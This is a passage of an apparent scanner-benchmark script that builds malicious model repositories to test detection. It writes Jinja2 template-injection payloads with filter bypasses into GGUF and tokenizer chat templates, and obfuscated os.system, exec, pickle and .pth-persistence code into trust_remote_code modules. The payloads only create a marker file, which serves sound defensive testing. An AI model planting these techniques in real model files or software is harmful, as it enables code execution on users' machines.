"""Held-out corpus: code execution through chat templates, repository code and config loaders.

Why this exists
---------------
openward's own zoo was written by the engineers who wrote the readers, so it
tests what they thought of. This corpus was written by a second engineer
*before* reading those readers in detail, from published techniques
(advisories, SSTI cheat sheets, vendor research) and from what the real
loaders accept. Every technique writes a small model repository (or one file)
whose payload, if the loader runs it, only creates a marker file; the liveness
check proves that by running the real loader in a subprocess.

What it measures
----------------
For each technique: is it live in the real loader (``live`` / ``not live`` /
``n/a`` when the loader cannot be installed here), and which scanners detect it:

* openward: ``openward scan TARGET --json``; detected = a finding at high or above.
* picklescan, modelscan, fickling, ModelAudit: run from ``benchmarks/.venv-peers``
  exactly as ``benchmarks/scan_peers.py`` runs them, judged by the same rules
  (picklescan: dangerous globals; modelscan: any issue; fickling: at least
  LIKELY_OVERTLY_MALICIOUS on any file of the target; ModelAudit: a critical issue).

Loaders that are not in the project's environment are installed under
``benchmarks/.corpus/loaders-config`` (git-ignored) and put on ``PYTHONPATH`` only
for their own liveness check::

    P=.venv/bin/pip; L=benchmarks/.corpus/loaders-config
    $P install --no-deps --target $L/hydra132 hydra-core==1.3.2
    $P install --no-deps --target $L/extras diffusers==0.42.1 \
        sentence-transformers==6.3.0 torchtune==0.6.1 torchao==0.10.0 \
        Pillow scikit-learn scipy threadpoolctl narwhals
    $P install --no-deps --target $L/speechbrain speechbrain   # phase-2 run_shell only

Hydra 1.3.2 is the version NeMo pinned when CVE-2025-23304 was filed; hydra-core
1.3.8 (in the project's environment) has a target blocklist, and the techniques
named ``*-bypass`` are live against it. Renderers that use a plain
``jinja2.Environment`` (llama-cpp-python before 0.2.72, CVE-2024-34359; SGLang's
tiktoken tokenizer, CVE-2026-5760; guidance and Levanter before their fixes) are
reproduced with jinja2 exactly as they called it, after the template was read
the way they read it (``gguf`` for GGUF metadata, transformers' tokenizer for
Hugging Face files).

Usage::

    .venv/bin/python benchmarks/heldout/config_techniques.py [--out DIR] [--no-live]
        [--no-scan] [--tools openward,modelaudit,...] [--only ID,...]

Writes ``DIR/config_techniques.json`` and ``DIR/config_techniques.md`` (default
``benchmarks/results/heldout-config``). Exit status 3 if a marker appeared while
the scanners ran (a scanner executed a payload).
"""

from __future__ import annotations

import argparse
import base64
import codecs
import datetime
import gzip
import io
import json
import os
import pickle
import platform
import shutil
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

REPO = Path(__file__).resolve().parents[2]
LOADERS = REPO / "benchmarks" / ".corpus" / "loaders-config"
HYDRA_132 = LOADERS / "hydra132"
EXTRAS = LOADERS / "extras"
PYTHON = Path(sys.executable)
LIVE_TIMEOUT_S = 180.0

sys.path.insert(0, str(REPO / "benchmarks"))


# ---------------------------------------------------------------------------
# Techniques
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class LiveCheck:
    """How to run the real loader on a built target, in a fresh interpreter.

    ``code`` runs with the environment variables ``TARGET`` (what was built) and
    ``MARKER`` (the file the payload creates); ``paths`` go first on PYTHONPATH.
    """

    code: str
    paths: tuple[Path, ...] = ()
    env: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Technique:
    id: str
    family: str
    loader: str
    """The loader (and version) that runs the payload, and the call that does it."""
    description: str
    source: str
    """Where the technique is published, or what it is derived from."""
    build: Callable[[Path, Path], Path]
    """``build(workdir, marker)`` writes the sample and returns the path to scan."""
    live: LiveCheck | None
    group: str = "held-out"
    """``held-out``: written before openward's analysers were read; ``phase-2``: found
    afterwards by reading them (white-box bypasses, kept as regressions)."""


TECHNIQUES: list[Technique] = []


def technique(
    id: str,
    family: str,
    loader: str,
    source: str,
    live: LiveCheck | None,
    group: str = "held-out",
) -> Callable[[Callable[[Path, Path], Path]], Callable[[Path, Path], Path]]:
    """Register a builder; its docstring is the technique's description."""

    def register(build: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
        doc = " ".join(textwrap.dedent(build.__doc__ or "").split())
        TECHNIQUES.append(Technique(id, family, loader, doc, source, build, live, group))
        return build

    return register


def touch_cmd(marker: Path) -> str:
    return f"touch {marker}"


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


class _SystemCall:
    """Pickles as ``os.system(cmd)``: the payload of the pickles that loaders reach."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.cmd,))


def system_pickle(marker: Path, protocol: int = 4) -> bytes:
    return pickle.dumps(_SystemCall(touch_cmd(marker)), protocol=protocol)


# --- chat templates ----------------------------------------------------------

CHATML = (
    "{% for message in messages %}"
    "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}"
    "{% if loop.first %}@@PAYLOAD@@{% endif %}"
    "{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
"""A ChatML template as Qwen/Yi ship it; the payload renders once, after the first message."""


def chatml(payload: str) -> str:
    return CHATML.replace("@@PAYLOAD@@", payload)


def popen(marker: Path) -> str:
    return f".popen('{touch_cmd(marker)}').read()"


PLAIN_RENDER = """
import jinja2
def render(template, bos="<s>", eos="</s>"):
    # llama-cpp-python 0.2.71 Jinja2ChatFormatter (CVE-2024-34359); SGLang's
    # TiktokenTokenizer and guidance called jinja2 the same way, without a sandbox.
    env = jinja2.Environment(loader=jinja2.BaseLoader(), trim_blocks=True, lstrip_blocks=True)
    return env.from_string(template).render(
        messages=[{"role": "user", "content": "hi"}], add_generation_prompt=True,
        bos_token=bos, eos_token=eos)
"""

GGUF_LIVE = LiveCheck(
    PLAIN_RENDER
    + """
import os, gguf
r = gguf.GGUFReader(os.environ["TARGET"])
def text(field, i=0):
    return bytes(field.parts[field.data[i]]).decode()
key = os.environ.get("TEMPLATE_KEY", "tokenizer.chat_template")
tokens = r.fields["tokenizer.ggml.tokens"]
bos = text(tokens, int(r.fields["tokenizer.ggml.bos_token_id"].parts[-1][0]))
eos = text(tokens, int(r.fields["tokenizer.ggml.eos_token_id"].parts[-1][0]))
render(text(r.fields[key]), bos, eos)
"""
)


def hf_live(template_name: str | None = None, tools: bool = False) -> LiveCheck:
    pick = (
        f"tok.get_chat_template({template_name!r})"
        if template_name
        else "tok.get_chat_template(tools=[{'type': 'function', 'function': {'name': 'f'}}])"
        if tools
        else "tok.get_chat_template()"
    )
    return LiveCheck(
        PLAIN_RENDER
        + f"""
import os
from transformers import AutoTokenizer
tok = AutoTokenizer.from_pretrained(os.environ["TARGET"])
# transformers reads the template (tokenizer_config.json, chat_template.jinja,
# additional_chat_templates/); the renderer then runs it outside the sandbox.
render({pick}, tok.bos_token, tok.eos_token)
""",
        env=(("HF_HUB_OFFLINE", "1"),),
    )


def write_gguf(path: Path, templates: dict[str, str], tokens: list[str], bos: int) -> Path:
    import gguf
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("tiny-chat")
    writer.add_context_length(2048)
    writer.add_tokenizer_model("llama")
    writer.add_token_list(tokens)
    writer.add_bos_token_id(bos)
    writer.add_eos_token_id(2)
    for key, value in templates.items():
        writer.add_string(key, value)
    writer.add_tensor("token_embd.weight", np.zeros((len(tokens), 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


TOKENS = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "hi"]


def hf_tokenizer_repo(
    d: Path,
    chat_template: Any = None,
    extra: dict[str, Any] | None = None,
    files: dict[str, str] | None = None,
) -> Path:
    """A tokenizer folder transformers loads offline (WordLevel tokenizer.json)."""
    from tokenizers import Tokenizer, models, pre_tokenizers

    d.mkdir(parents=True, exist_ok=True)
    tok = Tokenizer(models.WordLevel({t: i for i, t in enumerate(TOKENS)}, unk_token="<unk>"))  # noqa: S106
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    tok.save(str(d / "tokenizer.json"))
    config: dict[str, Any] = {
        "tokenizer_class": "PreTrainedTokenizerFast",
        "bos_token": "<s>",
        "eos_token": "</s>",
        "unk_token": "<unk>",
        "model_max_length": 2048,
    }
    if chat_template is not None:
        config["chat_template"] = chat_template
    config.update(extra or {})
    write(d / "tokenizer_config.json", json.dumps(config, indent=2))
    for name, text in (files or {}).items():
        write(d / name, text)
    return d


@technique(
    "tpl-gguf-subclasses-warning",
    "chat-template",
    "llama-cpp-python <= 0.2.71: Llama(model_path) -> Jinja2ChatFormatter renders "
    "tokenizer.chat_template in a plain jinja2.Environment",
    "CVE-2024-34359 / GHSA-56xg-wfcc-g829 (llama-cpp-python), the published PoC shape",
    GGUF_LIVE,
)
def tpl_gguf_subclasses(d: Path, marker: Path) -> Path:
    """GGUF ``tokenizer.chat_template`` that walks ``().__class__.__base__.__subclasses__()``
    to ``warnings.catch_warnings`` and reaches ``__import__`` through its ``_module``."""
    payload = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'catch_warnings' == x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os')" + popen(marker) + " }}"
        "{% endif %}{% endfor %}"
    )
    return write_gguf(d / "model.gguf", {"tokenizer.chat_template": chatml(payload)}, TOKENS, 1)


@technique(
    "tpl-gguf-cycler-globals",
    "chat-template",
    "llama-cpp-python <= 0.2.71 (plain jinja2.Environment)",
    "PayloadsAllTheThings SSTI/Jinja2: cycler/joiner/namespace.__init__.__globals__.os",
    GGUF_LIVE,
)
def tpl_gguf_cycler(d: Path, marker: Path) -> Path:
    """GGUF template using the default globals ``cycler.__init__.__globals__.os``,
    stored in a ``{% set %}`` inside the message loop."""
    payload = "{% set r = cycler.__init__.__globals__.os" + popen(marker) + " %}"
    return write_gguf(d / "model.gguf", {"tokenizer.chat_template": chatml(payload)}, TOKENS, 1)


@technique(
    "tpl-gguf-bos-token-name",
    "chat-template",
    "llama-cpp-python <= 0.2.71: bos_token passed to the template is the vocabulary text "
    "of tokenizer.ggml.bos_token_id",
    "derived: the renderer passes bos_token/eos_token from the same file; "
    "a dunder name stored as a vocabulary entry never appears in the template",
    GGUF_LIVE,
)
def tpl_gguf_bos_name(d: Path, marker: Path) -> Path:
    """The attribute name ``__globals__`` is a vocabulary token chosen as BOS; the
    template reads ``lipsum|attr(bos_token)``, so no dunder occurs in the template text."""
    payload = "{{ (lipsum|attr(bos_token))['os']" + popen(marker) + " }}"
    tokens = [*TOKENS, "__globals__"]
    return write_gguf(
        d / "model.gguf", {"tokenizer.chat_template": chatml(payload)}, tokens, len(tokens) - 1
    )


@technique(
    "tpl-gguf-named-template",
    "chat-template",
    "llama-cpp-python <= 0.2.71: every tokenizer.chat_template.<name> key becomes a "
    "chat_format 'chat-template.<name>' rendered by the same plain Environment",
    "llama.cpp GGUF spec (named templates tokenizer.chat_template.<name>); CVE-2024-34359",
    LiveCheck(
        GGUF_LIVE.code,
        env=(("TEMPLATE_KEY", "tokenizer.chat_template.tool_use"),),
    ),
)
def tpl_gguf_named(d: Path, marker: Path) -> Path:
    """Benign default template; the payload sits in the named template
    ``tokenizer.chat_template.tool_use`` (``'__GLOBALS__'|lower``)."""
    payload = "{{ (lipsum|attr('__GLOBALS__'|lower))['os']" + popen(marker) + " }}"
    return write_gguf(
        d / "model.gguf",
        {
            "tokenizer.chat_template": chatml(""),
            "tokenizer.chat_template.tool_use": chatml(payload),
        },
        TOKENS,
        1,
    )


@technique(
    "tpl-concat-tilde",
    "chat-template",
    "transformers 5 reads tokenizer_config.json; rendered by a plain jinja2.Environment "
    "(SGLang TiktokenTokenizer CVE-2026-5760, guidance, Levanter before their fixes)",
    "PayloadsAllTheThings SSTI/Jinja2 filter bypass: names built with ~ concatenation",
    hf_live(),
)
def tpl_concat(d: Path, marker: Path) -> Path:
    """tokenizer_config.json template that builds ``__globals__`` with ``~`` in a
    ``{% set %}`` and fetches it with ``|attr``."""
    payload = (
        "{% set g = '_' ~ '_glob' ~ 'als_' ~ '_' %}{{ (lipsum|attr(g))['os']"
        + popen(marker)
        + " }}"
    )
    return hf_tokenizer_repo(d / "repo", chatml(payload))


@technique(
    "tpl-format-chr",
    "chat-template",
    "transformers 5 tokenizer_config.json -> plain jinja2.Environment",
    "PayloadsAllTheThings SSTI/Jinja2: '%c'|format(95) yields '_' without writing it",
    hf_live(),
)
def tpl_format_chr(d: Path, marker: Path) -> Path:
    """Underscores from ``'%c'|format(95)``, name assembled as ``u*2 ~ 'globals' ~ u*2``."""
    payload = (
        "{% set u = '%c'|format(95) %}{% set g = u*2 ~ 'globals' ~ u*2 %}"
        "{{ (lipsum|attr(g))['os']" + popen(marker) + " }}"
    )
    return hf_tokenizer_repo(d / "repo", chatml(payload))


@technique(
    "tpl-dict-join",
    "chat-template",
    "transformers 5 tokenizer_config.json -> plain jinja2.Environment",
    "HackTricks Jinja2 SSTI: dict(key=...)|join builds strings from keyword names",
    hf_live(),
)
def tpl_dict_join(d: Path, marker: Path) -> Path:
    """``dict(__glo=1, bals__=1)|join`` gives ``__globals__`` from keyword-argument names."""
    payload = (
        "{% set g = dict(__glo=1, bals__=1)|join %}{{ (lipsum|attr(g))['os']"
        + popen(marker)
        + " }}"
    )
    return hf_tokenizer_repo(d / "repo", chatml(payload))


@technique(
    "tpl-reverse",
    "chat-template",
    "transformers 5 chat_template.jinja -> plain jinja2.Environment",
    "derived from PayloadsAllTheThings filter bypasses: |reverse on a string",
    hf_live(),
)
def tpl_reverse(d: Path, marker: Path) -> Path:
    """``chat_template.jinja`` with ``'__slabolg__'|reverse``."""
    payload = "{{ (lipsum|attr('__slabolg__'|reverse))['os']" + popen(marker) + " }}"
    return hf_tokenizer_repo(d / "repo", files={"chat_template.jinja": chatml(payload)})


@technique(
    "tpl-replace",
    "chat-template",
    "transformers 5 chat_template.jinja -> plain jinja2.Environment",
    "derived from PayloadsAllTheThings filter bypasses: |replace",
    hf_live(),
)
def tpl_replace(d: Path, marker: Path) -> Path:
    """``'XXglobalsXX'|replace('X', '_')`` builds the dunder at render time."""
    payload = "{{ (lipsum|attr('XXglobalsXX'|replace('X', '_')))['os']" + popen(marker) + " }}"
    return hf_tokenizer_repo(d / "repo", files={"chat_template.jinja": chatml(payload)})


@technique(
    "tpl-map-attribute-dotted",
    "chat-template",
    "transformers 5 chat_template.jinja -> plain jinja2.Environment",
    "Jinja2 docs: map(attribute='a.b') follows dotted paths; issue 12 mechanism 2",
    hf_live(),
)
def tpl_map_attribute(d: Path, marker: Path) -> Path:
    """``[lipsum]|map(attribute='__globals__.os')|first``: the dunder is a filter argument."""
    payload = "{{ ([lipsum]|map(attribute='__globals__.os')|first)" + popen(marker) + " }}"
    return hf_tokenizer_repo(d / "repo", files={"chat_template.jinja": chatml(payload)})


@technique(
    "tpl-string-index-underscore",
    "chat-template",
    "transformers 5 chat_template.jinja (overrides tokenizer_config.json) -> plain "
    "jinja2.Environment",
    "PayloadsAllTheThings SSTI/Jinja2: characters taken from an object's string form",
    hf_live(),
)
def tpl_string_index(d: Path, marker: Path) -> Path:
    """``(lipsum|string)[18]`` is ``_`` (``<function generate_lorem_ipsum ...>``); the
    benign template in tokenizer_config.json is shadowed by chat_template.jinja."""
    payload = (
        "{% set u = (lipsum|string)[18] %}{{ (lipsum|attr(u ~ u ~ 'globals' ~ u ~ u))['os']"
        + popen(marker)
        + " }}"
    )
    return hf_tokenizer_repo(d / "repo", chatml(""), files={"chat_template.jinja": chatml(payload)})


@technique(
    "tpl-list-form-namespace-loop",
    "chat-template",
    "transformers 5: tokenizer_config.json chat_template as [{name, template}]; "
    "'tool_use' is picked when tools are passed -> plain jinja2.Environment",
    "transformers docs (multiple chat templates); issue 12 mechanism 2 (dict form)",
    hf_live(tools=True),
)
def tpl_list_namespace(d: Path, marker: Path) -> Path:
    """Named ``tool_use`` template in list form; the name is accumulated char by char
    from numbers in a ``namespace`` inside a loop."""
    codes = ",".join(str(ord(c)) for c in "__globals__")
    payload = (
        "{% set ns = namespace(n='') %}{% for c in [" + codes + "] %}"
        "{% set ns.n = ns.n ~ '%c'|format(c) %}{% endfor %}"
        "{{ (lipsum|attr(ns.n))['os']" + popen(marker) + " }}"
    )
    templates = [
        {"name": "default", "template": chatml("")},
        {"name": "tool_use", "template": chatml(payload)},
    ]
    return hf_tokenizer_repo(d / "repo", templates)


@technique(
    "tpl-additional-templates-hex",
    "chat-template",
    "transformers 5: additional_chat_templates/<name>.jinja -> tokenizer.chat_template[name] "
    "-> plain jinja2.Environment",
    "transformers 4.54+ additional_chat_templates folder; Jinja string escapes "
    "(PayloadsAllTheThings '\\x5f' bypass)",
    hf_live(template_name="rag"),
)
def tpl_additional_hex(d: Path, marker: Path) -> Path:
    """``additional_chat_templates/rag.jinja`` reaching ``os`` through
    ``self._TemplateReference__context`` with ``'\\x5f\\x5finit\\x5f\\x5f'`` escapes."""
    payload = (
        "{{ (self._TemplateReference__context.cycler|attr('\\x5f\\x5finit\\x5f\\x5f')"
        "|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os']" + popen(marker) + " }}"
    )
    return hf_tokenizer_repo(
        d / "repo",
        files={
            "chat_template.jinja": chatml(""),
            "additional_chat_templates/rag.jinja": chatml(payload),
        },
    )


@technique(
    "tpl-json-unicode-escapes",
    "chat-template",
    "transformers 5 tokenizer_config.json -> plain jinja2.Environment",
    "derived: JSON \\u escapes in the file and Jinja \\u escapes in the literal",
    hf_live(),
)
def tpl_json_escapes(d: Path, marker: Path) -> Path:
    """tokenizer_config.json written with every ``_`` as a JSON ``\\u005f`` escape, and the
    template itself spelling ``__class__`` as the Jinja literal ``'\\u005f\\u005fclass...'``."""
    payload = (
        "{% for x in (()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\u005f\\u005fbase"
        "\\u005f\\u005f')|attr('\\u005f\\u005fsubclasses\\u005f\\u005f'))() %}"
        "{% if x|attr('\\u005f\\u005fname\\u005f\\u005f') == 'catch_warnings' %}"
        "{{ (x()._module|attr('\\u005f\\u005fbuiltins\\u005f\\u005f'))"
        "['\\u005f\\u005fimport\\u005f\\u005f']('os')" + popen(marker) + " }}"
        "{% endif %}{% endfor %}"
    )
    repo = hf_tokenizer_repo(d / "repo", chatml(payload))
    cfg = repo / "tokenizer_config.json"
    cfg.write_text(cfg.read_text().replace("_", "\\u005f"))
    return repo


# --- repository code (trust_remote_code and its relatives) --------------------

REMOTE_LIVE = LiveCheck(
    """
import os
from transformers import AutoConfig
AutoConfig.from_pretrained(os.environ["TARGET"], trust_remote_code=True)
""",
    env=(("HF_HUB_OFFLINE", "1"),),
)


def remote_config_repo(d: Path, module_source: str, extra: dict[str, str] | None = None) -> Path:
    """A repository whose config.json maps AutoConfig to ``configuration_tiny.TinyConfig``."""
    repo = d / "repo"
    config = {
        "model_type": "tiny",
        "architectures": ["TinyModel"],
        "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig"},
        "hidden_size": 8,
    }
    write(repo / "config.json", json.dumps(config, indent=2))
    source = textwrap.dedent(module_source).strip() + "\n"
    if "class TinyConfig" not in source:
        source += textwrap.dedent(
            """
            from transformers import PretrainedConfig


            class TinyConfig(PretrainedConfig):
                model_type = "tiny"
            """
        )
    write(repo / "configuration_tiny.py", source)
    for name, text in (extra or {}).items():
        write(repo / name, textwrap.dedent(text).strip() + "\n")
    return repo


RC_LOADER = (
    "transformers 5.25: AutoConfig.from_pretrained(repo, trust_remote_code=True) imports "
    "configuration_tiny.py named by config.json auto_map"
)


@technique(
    "rc-alias-os-system",
    "remote-code",
    RC_LOADER,
    "issue 12 mechanism 5 (x = os.system; x(...))",
    REMOTE_LIVE,
)
def rc_alias(d: Path, marker: Path) -> Path:
    """Module-level alias ``_run = os.system`` called later under the alias."""
    return remote_config_repo(
        d,
        f"""
        import os

        _run = os.system
        _DEFAULTS = {{"hidden_size": 8}}
        _run("{touch_cmd(marker)}")
        """,
    )


@technique(
    "rc-getattr-computed",
    "remote-code",
    RC_LOADER,
    "issue 12 mechanism 5 (getattr with computed names); fickling/modelscan evasion write-ups",
    REMOTE_LIVE,
)
def rc_getattr(d: Path, marker: Path) -> Path:
    """``getattr(__import__('o' + 's'), ''.join(['sys', 'tem']))(...)``."""
    return remote_config_repo(
        d,
        f"""
        _m = __import__("o" + "s")
        getattr(_m, "".join(["sys", "tem"]))("{touch_cmd(marker)}")
        """,
    )


@technique(
    "rc-base64-exec",
    "remote-code",
    RC_LOADER,
    "JFrog 2024 'malicious Hugging Face models' (base64-wrapped payloads)",
    REMOTE_LIVE,
)
def rc_base64(d: Path, marker: Path) -> Path:
    """``exec(base64.b64decode(...))`` of the whole payload."""
    blob = base64.b64encode(f"import os\nos.system({touch_cmd(marker)!r})\n".encode()).decode()
    return remote_config_repo(d, f'import base64\nexec(base64.b64decode("{blob}"))\n')


@technique(
    "rc-codecs-rot13",
    "remote-code",
    RC_LOADER,
    "common Python malware obfuscation (rot13 via codecs) seen in PyPI malware reports",
    REMOTE_LIVE,
)
def rc_rot13(d: Path, marker: Path) -> Path:
    """Payload source kept as rot13 text, decoded with ``codecs.decode`` and executed via
    ``builtins.__dict__['exec']``."""
    hidden = codecs.encode(
        f"import subprocess\nsubprocess.call({touch_cmd(marker)!r}, shell=True)\n", "rot13"
    )
    return remote_config_repo(
        d,
        f"""
        import builtins
        import codecs

        builtins.__dict__["ex" + "ec"](codecs.decode({hidden!r}, "rot13"))
        """,
    )


@technique(
    "rc-compile-reversed",
    "remote-code",
    RC_LOADER,
    "derived: compile() of a reversed string, run through eval of the code object",
    REMOTE_LIVE,
)
def rc_compile(d: Path, marker: Path) -> Path:
    """``eval(compile(SRC[::-1], ..., 'exec'))`` with the source stored reversed."""
    src = f"import os; os.popen({touch_cmd(marker)!r}).read()"[::-1]
    return remote_config_repo(d, f'_SRC = {src!r}\neval(compile(_SRC[::-1], "<cfg>", "exec"))\n')


@technique(
    "rc-decorator",
    "remote-code",
    RC_LOADER,
    "derived: side effect in a class decorator (runs at class definition)",
    REMOTE_LIVE,
)
def rc_decorator(d: Path, marker: Path) -> Path:
    """A registry decorator on the config class runs ``subprocess.run`` when the class
    is defined."""
    return remote_config_repo(
        d,
        f"""
        import importlib

        from transformers import PretrainedConfig


        def register(cls):
            importlib.import_module("subprocess").run(["touch", "{marker}"])
            return cls


        @register
        class TinyConfig(PretrainedConfig):
            model_type = "tiny"
        """,
    )


@technique(
    "rc-metaclass",
    "remote-code",
    RC_LOADER,
    "derived: payload in a metaclass __new__",
    REMOTE_LIVE,
)
def rc_metaclass(d: Path, marker: Path) -> Path:
    """Metaclass ``__new__`` runs the payload when the config class is created."""
    return remote_config_repo(
        d,
        f"""
        import os

        from transformers import PretrainedConfig


        class _Meta(type(PretrainedConfig)):
            def __new__(mcs, name, bases, ns):
                os.spawnlp(os.P_WAIT, "touch", "touch", "{marker}")
                return super().__new__(mcs, name, bases, ns)


        class TinyConfig(PretrainedConfig, metaclass=_Meta):
            model_type = "tiny"
        """,
    )


@technique(
    "rc-init-subclass",
    "remote-code",
    RC_LOADER,
    "derived: payload in __init_subclass__ of a base class",
    REMOTE_LIVE,
)
def rc_init_subclass(d: Path, marker: Path) -> Path:
    """``__init_subclass__`` of a mixin runs ``os.execvp`` in a forked child when the
    config class subclasses it."""
    return remote_config_repo(
        d,
        f"""
        import os

        from transformers import PretrainedConfig


        class _Registered:
            def __init_subclass__(cls, **kwargs):
                super().__init_subclass__(**kwargs)
                if os.fork() == 0:
                    os.execvp("touch", ["touch", "{marker}"])
                os.wait()


        class TinyConfig(_Registered, PretrainedConfig):
            model_type = "tiny"
        """,
    )


@technique(
    "rc-indirect-helper",
    "remote-code",
    RC_LOADER + "; transformers copies and imports its relative imports",
    "issue 12 mechanism 5; transformers dynamic_module_utils.get_relative_imports",
    REMOTE_LIVE,
)
def rc_indirect(d: Path, marker: Path) -> Path:
    """The auto_map module is clean and does ``from .tiny_utils import ...``; the
    payload is module-level code of the helper."""
    return remote_config_repo(
        d,
        "from .tiny_utils import DEFAULTS  # noqa: F401\n",
        {
            "tiny_utils.py": f"""
            import os as _o

            DEFAULTS = {{"hidden_size": 8, "status": _o.system("{touch_cmd(marker)}")}}
            """
        },
    )


@technique(
    "rc-pth-file-write",
    "remote-code",
    RC_LOADER,
    "persistence via a .pth file in site-packages (Python site docs; PyPI malware "
    "2023-2025); the harmless version writes the marker instead of the .pth",
    REMOTE_LIVE,
)
def rc_pth_write(d: Path, marker: Path) -> Path:
    """No call that runs anything: ``pathlib.Path(...).write_text`` of a ``.pth`` line,
    which the next interpreter start executes."""
    return remote_config_repo(
        d,
        f"""
        import pathlib

        _TARGET = pathlib.Path("{marker}")  # a real payload uses site.getusersitepackages()
        _TARGET.write_text("import os; os.system('id')\\n")
        """,
    )


@technique(
    "rc-methodcaller",
    "remote-code",
    RC_LOADER,
    "derived: operator.methodcaller + importlib.import_module, no attribute syntax",
    REMOTE_LIVE,
)
def rc_methodcaller(d: Path, marker: Path) -> Path:
    """``operator.methodcaller('sys' + 'tem', cmd)(importlib.import_module('os'))``."""
    return remote_config_repo(
        d,
        f"""
        import importlib
        import operator

        operator.methodcaller("sys" + "tem", "{touch_cmd(marker)}")(importlib.import_module("os"))
        """,
    )


@technique(
    "rc-embedded-pickle",
    "remote-code",
    RC_LOADER,
    "derived: the payload is an embedded pickle, loaded with pickle.loads",
    REMOTE_LIVE,
)
def rc_embedded_pickle(d: Path, marker: Path) -> Path:
    """Module code only calls ``pickle.loads(bytes.fromhex(...))``; the pickle holds
    ``os.system``."""
    blob = system_pickle(marker).hex()
    return remote_config_repo(d, f'import pickle\n_STATE = pickle.loads(bytes.fromhex("{blob}"))\n')


@technique(
    "rc-tokenizer-auto-map",
    "remote-code",
    "transformers 5.25: AutoTokenizer.from_pretrained(repo, trust_remote_code=True) "
    "imports tokenization_tiny.py named by tokenizer_config.json auto_map",
    "transformers docs (custom tokenizers); issue 12 mechanism 5",
    LiveCheck(
        """
import os
from transformers import AutoTokenizer
AutoTokenizer.from_pretrained(os.environ["TARGET"], trust_remote_code=True)
""",
        env=(("HF_HUB_OFFLINE", "1"),),
    ),
)
def rc_tokenizer(d: Path, marker: Path) -> Path:
    """No config.json at all: the auto_map is in tokenizer_config.json only."""
    repo = d / "repo"
    write(
        repo / "tokenizer_config.json",
        json.dumps(
            {
                "tokenizer_class": "TinyTokenizer",
                "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
            }
        ),
    )
    write(
        repo / "tokenization_tiny.py",
        textwrap.dedent(
            f"""
            import subprocess

            from transformers import PreTrainedTokenizer

            subprocess.Popen(["touch", "{marker}"]).wait()


            class TinyTokenizer(PreTrainedTokenizer):
                pass
            """
        ),
    )
    return repo


@technique(
    "rc-custom-generate",
    "remote-code",
    "transformers 5.25: from_pretrained(..., trust_remote_code=True) -> "
    "GenerationMixin.load_custom_generate imports custom_generate/generate.py",
    "transformers docs 'custom generation methods' (custom_generate/); issue 12 mechanism 5",
    LiveCheck(
        """
import os
from transformers.generation.utils import GenerationMixin
GenerationMixin.load_custom_generate(object(), os.environ["TARGET"], trust_remote_code=True)
""",
        env=(("HF_HUB_OFFLINE", "1"),),
    ),
)
def rc_custom_generate(d: Path, marker: Path) -> Path:
    """``custom_generate/generate.py`` with module-level ``os.system``; no auto_map anywhere."""
    repo = d / "repo"
    write(repo / "config.json", json.dumps({"model_type": "gpt2", "n_embd": 8}))
    write(
        repo / "custom_generate" / "generate.py",
        f'import os\nos.system("{touch_cmd(marker)}")\n\n\ndef generate(model, **kw):\n'
        "    return model\n",
    )
    return repo


DIFFUSERS_LIVE = LiveCheck(
    """
import os
from diffusers import DiffusionPipeline
try:
    DiffusionPipeline.from_pretrained(os.environ["TARGET"], trust_remote_code=True)
except Exception as exc:  # the weights are missing; the code already ran
    print(type(exc).__name__, exc)
""",
    paths=(EXTRAS,),
    env=(("HF_HUB_OFFLINE", "1"),),
)


@technique(
    "rc-diffusers-component",
    "remote-code",
    "diffusers 0.42.1: DiffusionPipeline.from_pretrained(repo, trust_remote_code=True) imports "
    "<component>/<module>.py named in model_index.json",
    "diffusers docs (custom components); issue 12 mechanism 5",
    DIFFUSERS_LIVE,
)
def rc_diffusers_component(d: Path, marker: Path) -> Path:
    """DDPMPipeline whose model_index.json component ``"unet": ["my_unet", "MyUNet"]`` is
    ``unet/my_unet.py`` in the repository."""
    repo = d / "repo"
    write(
        repo / "model_index.json",
        json.dumps(
            {
                "_class_name": "DDPMPipeline",
                "_diffusers_version": "0.30.0",
                "scheduler": ["diffusers", "DDPMScheduler"],
                "unet": ["my_unet", "MyUNet"],
            }
        ),
    )
    write(
        repo / "scheduler" / "scheduler_config.json",
        json.dumps({"_class_name": "DDPMScheduler", "num_train_timesteps": 10}),
    )
    write(repo / "unet" / "config.json", json.dumps({"_class_name": "MyUNet"}))
    write(
        repo / "unet" / "my_unet.py",
        textwrap.dedent(
            f"""
            import os

            from diffusers import ConfigMixin, ModelMixin

            os.system("{touch_cmd(marker)}")


            class MyUNet(ModelMixin, ConfigMixin):
                pass
            """
        ),
    )
    return repo


@technique(
    "rc-diffusers-pipeline",
    "remote-code",
    "diffusers 0.42.1: model_index.json _class_name [file, class] loads <file>.py from the repo",
    "diffusers docs (community pipelines / custom pipeline in the repo)",
    DIFFUSERS_LIVE,
)
def rc_diffusers_pipeline(d: Path, marker: Path) -> Path:
    """``_class_name: ["pipeline_tiny", "TinyPipeline"]`` and a root ``pipeline_tiny.py``
    whose payload is reached through ``sys.modules['os']``."""
    repo = d / "repo"
    write(
